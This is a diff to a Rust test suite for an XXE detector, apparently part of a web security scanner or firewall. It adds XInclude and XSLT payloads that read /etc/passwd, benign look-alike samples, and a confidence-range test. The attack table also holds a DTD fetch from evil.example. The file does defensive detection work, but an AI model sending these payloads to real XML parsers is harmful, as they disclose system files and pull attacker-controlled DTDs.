@@ -1,8 +1,10 @@
 use super::super::properties::check_properties;
-use super::super::tests::check_table;
+use super::super::tests::{check_table, confidence};
 use super::super::{Context, Detector, Place};
 
 const ATTACKS: &[&str] = &[
+    "<a xmlns:i=\"http://www.w3.org/2001/XInclude\"><i:include href=\"legal.xml\"/><i:include href=\"file:///etc/passwd\" parse=\"text\"/></a>",
+    "<xsl:copy-of select=\"document('/etc/passwd')\"/>",
     "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
     "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///c:/windows/win.ini'>]><r>&x;</r>",
     "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\"> %d;]><r/>",
@@ -47,6 +49,8 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "Set doc = ui.OpenDocument(\"/home/wang/排班.ods\")",
+    "const page = parser.createDocument('/report/1')",
     "<!DOCTYPE html>",
     "<!doctype html><html><body>x</body></html>",
     "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01//EN\" \"http://www.w3.org/TR/html4/strict.dtd\">",
@@ -93,6 +97,18 @@ const HONEST: &[&str] = &[
 #[test]
 fn documents_that_fetch_or_multiply_are_confirmed() {
     check_table(Detector::Xxe, Context::of(Place::BodyText), 80, ATTACKS, HONEST);
+}
+
+#[test]
+fn a_manual_that_includes_its_neighbour_counts_but_does_not_block() {
+    for attributes in [
+        "xmlns=\"http://www.w3.org/2001/XInclude\" href=\"legal.xml\"",
+        "href=\"parts.page\" xpointer=\"xpointer(/*/*[@xml:id='a'])\" xmlns=\"http://www.w3.org/2001/XInclude\"",
+    ] {
+        let manual = format!("<page><include {attributes}/></page>");
+        let sure = confidence(Detector::Xxe, manual.as_bytes(), Context::of(Place::BodyText));
+        assert!((60..80).contains(&sure), "{sure} for {manual}");
+    }
 }
 
 #[test]
